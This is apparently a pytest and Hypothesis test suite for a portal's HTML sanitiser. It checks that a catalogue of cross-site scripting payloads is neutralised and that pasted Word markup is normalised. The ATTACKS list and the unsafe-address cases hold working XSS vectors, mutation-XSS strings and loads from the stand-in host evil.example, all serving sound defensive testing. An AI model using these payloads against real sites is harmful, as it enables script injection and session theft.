"""The one sanitiser: what it drops, what it keeps, and that it never loses a word."""

import re
from html import escape
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from portal import tags
from portal.richtext import ALLOWED, CLASSES, clean, has_content, is_safe_address, plain, trusted
from portal.richtext.emptied import without_empty
from portal.richtext.nesting import DEEPEST
from portal.richtext.parting import parted
from portal.text import normalize

# What a stranger may try. After cleaning, none of it may hold anything that a browser would act on.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/anh/a.jpg onerror=alert(1) onload=alert(2)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="/media/a.jpg" srcset="javascript:alert(1) 1x, //evil.example/x.png 2x">',
    '<img src="/media/a.jpg" style="background:url(javascript:alert(1))">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/tracker.gif">',
    '<img src="//evil.example/tracker.gif">',
    '<img src="/media/../admin/logout/">',
    '<img src="/media/%2e%2e/admin/logout/">',
    '<img src="/media/\\..\\admin">',
    '<img src="/mediaevil/x.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="java&#8203;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="///evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="/&#9;/evil.example/">x</a>',
    '<a href="/&#8203;/evil.example/">x</a>',
    '<a href="https://user:word@evil.example/">x</a>',
    '<a href="https://dichvucong.gov.vn@evil.example/">x</a>',
    '<a href="https://so.gov.vn" target="_blank" onclick="alert(1)" ping="//evil.example">x</a>',
    '<p onmouseover="alert(1)" style="position:fixed;inset:0" id="q" name="x" tabindex="1">chữ</p>',
    "<p class='align-left evil messagelist'>chữ</p>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
    '<form action="//evil.example"><input name="p"><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<svg onload="alert(1)"></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math href="javascript:alert(1)">x</math>',
    # Mutations: harmless to one parser, harmful when its output is parsed again.
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?import namespace='t' implementation='#x'?>",
    "<table><td><style><img src=x onerror=alert(1)></style></td></table>",
    '<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>',
    '<abbr title="<b>&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b/onclick=alert(1)>x</b>",
    "<div\x0conclick=alert(1)>x</div>",
    "<p><a href='https://so.gov.vn'><p><a href='javascript:alert(1)'>x",
]


class Reader(HTMLParser):
    """Every tag with its attributes, as a browser would read a text that is well-formed."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def harmful(html: str) -> list[str]:
    """What a cleaned text holds that it must not."""
    reader = Reader(html)
    faults = [f"not markup: {other!r}" for other in reader.others]
    for tag, attributes in reader.tags:
        if tag not in ALLOWED:
            faults.append(f"<{tag}>")
            continue
        for name, value in attributes.items():
            if name not in ALLOWED[tag]:
                faults.append(f"<{tag} {name}>")
            elif name == "href" and not is_safe_address(value):
                faults.append(f"href={value!r}")
            elif name == "src" and not re.fullmatch(r"/media/[\w./-]*", value):
                faults.append(f"src={value!r}")
            elif name == "class" and not set(value.split()) <= CLASSES[tag]:
                faults.append(f"class={value!r}")
    return faults


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_survives(attack):
    once = clean(attack)
    assert harmful(once) == []
    assert clean(once) == once
    assert trusted(attack) == once


@pytest.mark.parametrize("wrapper", ["<p>{}</p>", "<table><tr><td>{}</td></tr></table>", "<ul><li>{}", "<b><i>{}"])
def test_nothing_that_acts_survives_inside_other_markup(wrapper):
    for attack in ATTACKS:
        once = clean(wrapper.format(attack))
        assert harmful(once) == [], attack
        assert clean(once) == once, attack


# Properties

TAGS = [*ALLOWED, *"b i div h1 h6 font o:p section script style svg math form template iframe center pre".split()]
ATTRIBUTES = [
    "",
    ' class="align-center MsoNormal"',
    ' style="mso-x:1"',
    ' href="https://so.gov.vn/a?b=1&c=2"',
    ' href="javascript:x"',
    ' src="/media/anh/a.jpg" alt="Ảnh <b>"',
    ' title="a > b"',
    ' lang="vi"',
    ' scope="col" colspan="2"',
    " onclick=x()",
    ' class="video footnote footnotes align-left"',
    ' src="https://www.youtube.com/embed/abc-DEF_123" title="Phim"',
    ' href="https://youtu.be/abc-DEF_123"',
    ' data-image="7" src="/media/anh/a.jpg"',
]
TEXTS = [
    "chữ",
    " ",
    "&nbsp;",
    "\u00a0",
    "&#8203;",
    "e&#769;",
    "a < b & c",
    "&lt;p&gt;",
    "\n",
    "“Đường sắt”",
    "<!-- x -->",
]
pieces = st.one_of(
    st.sampled_from(TEXTS),
    st.builds(lambda tag, attributes: f"<{tag}{attributes}>", st.sampled_from(TAGS), st.sampled_from(ATTRIBUTES)),
    st.builds(lambda tag: f"</{tag}>", st.sampled_from(TAGS)),
    st.text(max_size=4),
)
soup = st.lists(pieces, max_size=25).map("".join)


@given(soup)
@hypothesis_settings(max_examples=500)
def test_cleaning_twice_changes_nothing_more(html):
    assert clean(clean(html)) == clean(html)


@given(soup)
@hypothesis_settings(max_examples=300)
def test_nothing_but_the_allowed_survives_any_soup(html):
    assert harmful(clean(html)) == []


INLINE = {"strong", "em", "u", "s", "sub", "sup", "abbr", "span", "a", "b", "i", "font", "o:p", "cite", "img"}
PARTING = sorted(
    {*ALLOWED, *tags.BLOCKS, "h1", "h6", "menu", "dir"}
    - INLINE
    - {"textarea", "xmp", "plaintext", "listing", "noframes"}
)
IN_TABLES = {"table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"}
words = st.sampled_from([f"w{number}" for number in range(30)] + [" ", "&nbsp;", "\n"])
inline = st.sampled_from([f"<{end}{tag}>" for tag in sorted(INLINE - {"img"}) for end in ("", "/")])
blocks = st.sampled_from([f"<{end}{tag}>" for tag in PARTING if tag not in IN_TABLES for end in ("", "/")])
loose_cells = st.sampled_from([f"<{end}{tag}>" for tag in ("td", "th", "tr", "caption") for end in ("", "/")])


def edges(text: str) -> set[int]:
    """Where words begin and end, counted in letters."""
    found, position = {0}, 0
    for word in text.split():
        position += len(word)
        found.add(position)
    return found


def spaced(html: str, tag: str) -> str:
    """The words of a soup, with a space for white space and for every such tag."""
    return re.sub(r"<[^>]*>", "", re.sub(tag, " ", html.replace("&nbsp;", " ")))


@given(st.lists(st.one_of(words, inline, blocks, loose_cells), max_size=25).map("".join))
@hypothesis_settings(max_examples=400)
def test_no_word_is_lost_or_moved_or_glued_to_what_a_block_parted_it_from(html):
    """A tag that ends what was never begun parts nothing for a browser, and may here."""
    found = plain(clean(html))
    assert "".join(found.split()) == "".join(spaced(html, "<>").split())
    parting = "|".join(PARTING)
    assert edges(spaced(html, rf"<(?:{parting})>")) <= edges(found) <= edges(spaced(html, rf"</?(?:{parting})>"))


nested = st.recursive(
    st.lists(words, min_size=1, max_size=3).map("".join),
    lambda inner: st.builds(
        lambda tag, parts: f"<{tag}>{''.join(parts)}</{tag}>",
        st.sampled_from([tag for tag in PARTING if tag not in IN_TABLES | {"hr", "br"}]),
        st.lists(inner, min_size=1, max_size=4),
    ),
    max_leaves=10,
)


@given(st.lists(nested, min_size=1, max_size=4).map("".join))
@hypothesis_settings(max_examples=100)
def test_what_stands_in_blocks_of_its_own_stands_apart_from_what_follows(html):
    assert plain(clean(html)).split() == spaced(html, "<[^>]*>").split()


@given(
    st.lists(st.one_of(words, inline, st.sampled_from(sorted(IN_TABLES)).map("<{}>".format)), max_size=25).map("".join)
)
@hypothesis_settings(max_examples=100)
def test_no_word_of_a_broken_table_is_lost(html):
    """A parser takes what stands between cells out of the table."""
    assert sorted("".join(plain(clean(html)).split())) == sorted("".join(spaced(html, "<>").split()))


@given(st.text())
def test_what_people_type_comes_out_as_they_typed_it(text):
    assert plain(clean(escape(text))) == " ".join(normalize(text).split())


# What stays


STRUCTURE = [
    "<p>Một đoạn.</p>",
    "<h2>Mục</h2><h3>Tiểu mục</h3><h4>Nhỏ hơn</h4>",
    '<p class="align-center">Giữa</p><p class="align-right">Phải</p><p class="align-justify">Đều</p>',
    "<p><strong>đậm</strong> <em>nghiêng</em> <u>gạch</u> <s>bỏ</s> H<sub>2</sub>O m<sup>2</sup></p>",
    "<p>Dòng một<br>dòng hai</p><hr>",
    "<ul><li>Một<ul><li>Con</li></ul></li><li>Hai</li></ul>",
    '<ol start="3"><li>Ba</li><li>Bốn</li></ol>',
    "<blockquote><p>Trích lời.</p></blockquote>",
    '<p><a href="https://so.gov.vn/a?b=1&amp;c=2" title="Sở">liên kết</a></p>',
    '<p><a href="/tin-tuc/">trong trang</a> <a href="#muc-1">mục</a> <a href="mailto:a@so.gov.vn">thư</a></p>',
    '<p><a href="tel:+842990000118">0299 000 0118</a></p>',
    '<figure class="align-left"><img src="/media/anh/ab/abc.jpg" alt="Đồi chè" width="720" height="480">'
    "<figcaption>Đồi chè</figcaption></figure>",
    "<table><caption>Số liệu</caption>"
    '<thead><tr><th scope="col">Năm</th><th colspan="2" scope="col">Số</th></tr></thead>'
    '<tbody><tr><th rowspan="2" scope="row">2014</th><td>1</td><td>2</td></tr></tbody>'
    "<tfoot><tr><td>Cộng</td></tr></tfoot></table>",
    '<figure class="align-left"><img data-image="12" src="/media/anh/ab/abc.jpg" alt="Đồi chè"></figure>',
    '<figure class="video"><a href="https://www.youtube.com/watch?v=abc-DEF_123&amp;t=90">Lễ khai mạc</a>'
    "<figcaption>Sáng 17/7</figcaption></figure>",
    '<p>Theo thống kê<sup class="footnote">1</sup>.</p><ol class="footnotes"><li>Niên giám 2013.</li></ol>',
    '<h2 class="align-center">Giữa</h2><ol type="a"><li>Một</li></ol>',
    '<table><tbody><tr><td class="align-right">1</td></tr></tbody></table>',
    '<blockquote lang="en"><p>To be.</p></blockquote><p lang="fr">Bon voyage</p>',
    '<p><abbr title="Ủy ban nhân dân">UBND</abbr> <span lang="en">smart city</span></p>',
    '<p><a href="/x" lang="en" title="y"><em lang="en">a</em> <strong lang="fr">b</strong></a> <u lang="en">c</u>'
    '<s lang="en">d</s><sub lang="en">e</sub><sup lang="en">f</sup> <abbr lang="en" title="World">W</abbr></p>',
    '<ul lang="en"><li>a</li></ul><ol lang="en" type="a"><li>b</li></ol>',
    '<table lang="en"><caption lang="fr">a</caption><tbody><tr><td>b</td></tr></tbody></table>',
    '<figure class="video" lang="en"><a href="https://www.youtube.com/watch?v=abc-DEF_123" lang="fr">Fête</a></figure>',
    "<p>a &lt; b &amp; c &gt; d</p>",
    "<p>“Đường sắt” – 5‰ … 25 °C ½ 🎉</p>",
]


@pytest.mark.parametrize("html", STRUCTURE)
def test_what_an_editor_makes_stays_as_it_is(html):
    assert clean(html) == html


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<b>x</b><i>y</i><del>z</del>", "<strong>x</strong><em>y</em><s>z</s>"),
        ("<h1>Tít</h1><h6>Nhỏ</h6>", "<h2>Tít</h2><h4>Nhỏ</h4>"),
        ("<B CLASS=x>đậm</B>", "<strong>đậm</strong>"),
        ("<br/>", "<br>"),
        ("<body>chữ</body>", "chữ"),
        ("<div>một</div><div>hai</div>", "<p>một</p><p>hai</p>"),
        ("<section><div><p>một</p></div><div>hai</div></section>", "<p>một</p><p>hai</p>"),
        # What stood apart stays apart
        ("<details><summary>Tóm</summary>Thân</details>", "<p>Tóm</p><p>Thân</p>"),
        ("<nav>A</nav>B", "<p>A</p><p>B</p>"),
        ("<form><fieldset><legend>A</legend>B</fieldset>C</form>D", "<p>A</p><p>B</p><p>C</p><p>D</p>"),
        ("<dialog>A</dialog><select><option>B<option>C</select>", "<p>A</p><p>B</p><p>C</p>"),
        ("<menu><li>A</menu>B<dir><li>C</dir>", "<ul><li>A</li></ul><p>B</p><ul><li>C</li></ul>"),
        ("<td>A</td>B<li>C", "<p>A</p><p>B</p><p>C</p>"),
        ("<dl><dt>A<dd>B</dl>C", "<p>A</p><p>B</p><p>C</p>"),
        ("<div>A<div>B</div>C</div>D", "<p>A</p><p>B</p><p>C</p><p>D</p>"),
        ("<ul><li>A<p></p><b>B</b></ul>", "<ul><li>A<br><strong>B</strong></li></ul>"),
        ("<p>A</p><br>B<br><img src='/media/a.jpg'><hr>", '<p>A</p><p>B<br><img src="/media/a.jpg"></p><hr>'),
        ("<b>A<b>B</b>C</b>D", "<strong>ABC</strong>D"),
        # What was aligned by other means
        ("<center>A<br>B</center><p align=RIGHT>C", '<p class="align-center">A<br>B</p><p class="align-right">C</p>'),
        ("<p style='color:red; TEXT-ALIGN: center !important' align=right>A", '<p class="align-center">A</p>'),
        ("<p class='align-left' align=right>A", '<p class="align-left">A</p>'),
        (
            "<div align=center><p>A</p><div style='text-align:left'>B</div>C<p style='text-align:justify'>D</div><p>E",
            '<p class="align-center">A</p><p>B</p><p>C</p><p>D</p><p>E</p>',
        ),
        (
            "<center><table align=center><tr><td>A<td align=right>B</table><ul><li><p>C</ul></center>",
            '<table><tbody><tr><td>A</td><td class="align-right">B</td></tr></tbody></table><ul><li><p>C</p></li></ul>',
        ),
        ('<p class="align-center evil">x</p>', '<p class="align-center">x</p>'),
        ("<p class='evil'>x</p>", "<p>x</p>"),
        ("<p lang='vi' title='x'>x</p>", '<p lang="vi">x</p>'),
        (
            '<table><tr><th scope="everything" colspan="-1">x</table>',
            "<table><tbody><tr><th>x</th></tr></tbody></table>",
        ),
        ('<ol start="1e9"><li>x</li></ol>', "<ol><li>x</li></ol>"),
        ('<table><tr><td colspan="99999">x</td></tr></table>', "<table><tbody><tr><td>x</td></tr></tbody></table>"),
        ('<span lang="en_US; x">y</span>', "y"),
        ("a<span> </span><span><span>b</span></span>", "a b"),
        ('<a href="javascript:x">a</a>', "<a>a</a>"),
        ("<figure></figure><ul></ul><figure><figcaption> </figcaption></figure>", ""),
        ('<sup class="MsoFootnoteReference footnote align-left">1</sup>', '<sup class="footnote">1</sup>'),
        ('<ol type="disc" class="footnotes x"><li>a</li></ol>', '<ol class="footnotes"><li>a</li></ol>'),
        ('<img src="/media/a.jpg" data-image="x1" data-id="7">', '<img src="/media/a.jpg">'),
        ("<cite>Tên sách</cite>", "<em>Tên sách</em>"),
        ("<img src='https://evil.example/x.png'>", ""),
        ("<p><img alt='không có nguồn'></p>", ""),
        ("Hữu&nbsp;Thắng", "Hữu Thắng"),
        ("Hữu\u00a0Thắng", "Hữu Thắng"),
        ("te&#769;", "té"),
        ("<p></p><p> </p><p>&nbsp;</p><p><br></p><p><span><strong> </strong></span></p>", ""),
        ("<h2><br></h2><p>chữ</p>", "<p>chữ</p>"),
        ("", ""),
        ("   \n ", ""),
    ],
)
def test_pasted_markup_comes_into_normal_form(pasted, kept):
    assert clean(pasted) == kept


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8">
<title>Tài liệu 1</title><style><!-- /* Style Definitions */ p.MsoNormal {mso-style-parent:"";} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=VI style='tab-interval:36.0pt'><!--StartFragment-->
<p class=MsoNormal align=center style='text-align:center'><b><span
style='font-size:14.0pt;font-family:"Times New Roman"'>
Sáu tháng đầu năm<o:p></o:p></span></b></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal style='text-indent:36.0pt'><font face="Times New Roman" size=4><span lang=VI>Toàn tỉnh có <span
style='color:red'>1.234</span> trạm,&nbsp;tăng <i style='mso-bidi-font-style:normal'>15%</i>.</span></font></p>
<p class=MsoListParagraph><![if !supportLists]><span>-<span>&nbsp;&nbsp; </span></span><![endif]>Trạm vùng cao</p>
<!--EndFragment--></body></html>"""


def test_a_text_from_word_keeps_its_words_and_loses_its_dirt():
    cleaned = clean(WORD)
    words = plain(cleaned)
    assert words == "Sáu tháng đầu năm Toàn tỉnh có 1.234 trạm, tăng 15%. - Trạm vùng cao"
    for dirt in ("Mso", "mso", "style", "o:p", "font", "xml", "&nbsp;", "Tài liệu 1", "<!--", "align="):
        assert dirt not in cleaned
    assert [cleaned.count("<p>"), cleaned.count('<p class="align-center">')] == [2, 1]
    assert "<strong>" in cleaned and "<em>15%</em>" in cleaned


def test_the_editor_and_the_sanitiser_allow_the_same():
    from portal.editor import CONFIG

    for tag, attributes in ALLOWED.items():
        rule = next(rule for rule in CONFIG["allowedContent"].split("; ") if re.match(rf"{tag}(?![a-z0-9])", rule))
        assert set(re.findall(r"[\w-]+", rule.partition("[")[2].partition("]")[0])) == attributes - {"class"}
        assert set(re.findall(r"[\w-]+", rule.partition("(")[2])) == CLASSES.get(tag, set())
        assert ("class" in attributes) == (tag in CLASSES)


# Addresses


@pytest.mark.parametrize(
    "address",
    [
        "https://so.gov.vn",
        "https://so.gov.vn:8443/a/b?c=d&e=f#g",
        "HTTPS://SO.GOV.VN/",
        "http://đườngsắt.example/tin",
        "https://[2001:db8::1]/",
        "  https://so.gov.vn/  ",
        "mailto:lienhe@so.gov.vn",
        "tel:+842990000118",
        "/",
        "/tin-tuc/bai-1/",
        "/tìm-kiếm/?q=đường",
        "#muc-1",
        "?truoc=1-1",
    ],
)
def test_safe_addresses(address):
    assert is_safe_address(address)


@pytest.mark.parametrize(
    "address",
    [
        "",
        "   ",
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "ftp://so.gov.vn/",
        "blob:https://so.gov.vn/x",
        "//evil.example/",
        "///evil.example/",
        "////evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        "https:\\\\evil.example",
        "https://",
        "https:///evil.example",
        "https:evil.example",
        "https://user@evil.example/",
        "https://user:word@evil.example/",
        "https://@evil.example/",
        "https://[evil",
        "https://so.gov.vn/a b",
        "https://so.gov.vn/a\nb",
        "mailto:",
        "tel:",
        "so.gov.vn",
        "tin-tuc/",
        "../admin/",
        "java\u200bscript:alert(1)",
    ],
)
def test_unsafe_addresses(address):
    assert not is_safe_address(address)


# Words


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>Một</p><p>hai</p>", "Một hai"),
        ("Một<br>hai", "Một hai"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a b"),
        ("<p>a &lt; b &amp; c</p>", "a < b & c"),
        ("<strong>Đ</strong>ường", "Đường"),
        ("<p>  nhiều \n chỗ   trống </p>", "nhiều chỗ trống"),
        ("", ""),
    ],
)
def test_plain_words(html, words):
    assert plain(html) == words


@pytest.mark.parametrize(
    ("html", "answer"),
    [
        ("<p>chữ</p>", True),
        ('<p><img src="/media/a.jpg"></p>', True),
        ("", False),
        ("<p> </p>", False),
        ("<p>&nbsp;</p>", False),
        ("<p>\u200b</p>", False),
        ("<hr>", False),
        ("<script>chữ</script>", False),
        ('<img src="https://noi.khac/a.jpg" onerror="x()">', False),
        ('<iframe srcdoc="<p>chữ</p>"></iframe>', False),
    ],
)
def test_content_is_a_word_or_a_picture(html, answer):
    assert has_content(html) is answer


# However much of it there is: bounds on the work, in steps and depth, never in seconds


DEEP = {
    "emphasis": "<p>" + "<em>chữ " * 5000,
    "other spelling": "<p>" + "<I>chữ " * 5000,
    "quotations": "<blockquote>chữ" * 5000,
    "lists": "<ul><li>chữ" * 5000,
    "tables": "<table><tr><td>chữ" * 5000,
    "ends in another's cell": "<em><table><td></em>chữ</table>" * 2000,
    "ends in a comment": "<span>chữ<!--</span>-->" * 5000,
    "ends in an attribute": '<span>chữ<p title="</span>"></p>' * 2000,
    "ends that end nothing": "<span><h2>chữ</span>" * 2000,
    "begun and never ended": "chữ <a " * 5000,
    "opened in a swallowing one": "<svg><em>chữ" * 5000,
    "links and paragraphs": "".join(f'<a href="/{n}">chữ' for n in range(500)) + "<p>chữ" * 5000,
}


def depth(html: str) -> int:
    deepest = now = 0
    for end, name in re.findall(r"<(/?)(\w+)", html):
        now += 0 if name in ("br", "hr", "img") else -1 if end else 1
        deepest = max(deepest, now)
    return deepest


@pytest.mark.parametrize("html", DEEP.values(), ids=DEEP)
def test_what_is_nested_without_end_comes_out_shallow_and_in_few_passes(html, monkeypatch):
    passes = []
    sanitise = nh3.clean
    monkeypatch.setattr("nh3.clean", lambda text, **rules: passes.append(len(text)) or sanitise(text, **rules))
    text = clean(html)
    assert depth(text) <= 4 * DEEPEST  # a list's items and a table's rows and cells come between
    assert len(passes) <= 2 * 11
    assert max(passes) <= 20 * len(html)
    assert clean(text) == text


@pytest.mark.parametrize("name", ["emphasis", "other spelling", "quotations", "lists", "tables"])
def test_no_word_is_lost_where_it_was_too_deep(name):
    assert plain(clean(DEEP[name])).count("chữ") == 5000


@given(
    st.lists(st.sampled_from([f"<{end}{tag}>" for tag in TAGS for end in ("", "/")] + ["chữ"]), max_size=30),
    st.integers(1, 8),
)
@hypothesis_settings(max_examples=100)
def test_cleaning_deep_soup_twice_changes_nothing_more(pieces, times):
    text = clean("".join(pieces) * times)
    assert clean(text) == text


def test_what_a_person_nests_stays_as_it_was():
    text = "<ul><li>một" * 12 + "</li></ul>" * 12
    assert clean(text) == text


def emptied(html: str) -> str:
    return parted(without_empty(html))


def test_what_is_empty_goes_in_one_pass_however_deep():
    assert emptied("<blockquote>" * 40 + "<em> </em><br>" + "</blockquote>" * 40) == ""
    assert emptied("a<em><strong> </strong></em>b") == "a b"
    assert emptied("<p>một <em>hai</em></p><p><br></p>") == "<p>một <em>hai</em></p>"


def test_attributes_stand_in_one_order_whatever_wrote_them():
    assert clean('<p lang="en" class="align-center">x</p>') == '<p class="align-center" lang="en">x</p>'
    image = '<img data-image="1" src="/media/a.jpg" alt="a &gt; b" width="3" height="4">'
    assert clean(f"<figure>{image}</figure>") == f"<figure>{image}</figure>"
    mixed = '<figure><img height="4" alt="a &gt; b" width="3" src="/media/a.jpg" data-image="1"></figure>'
    assert clean(mixed) == f"<figure>{image}</figure>"
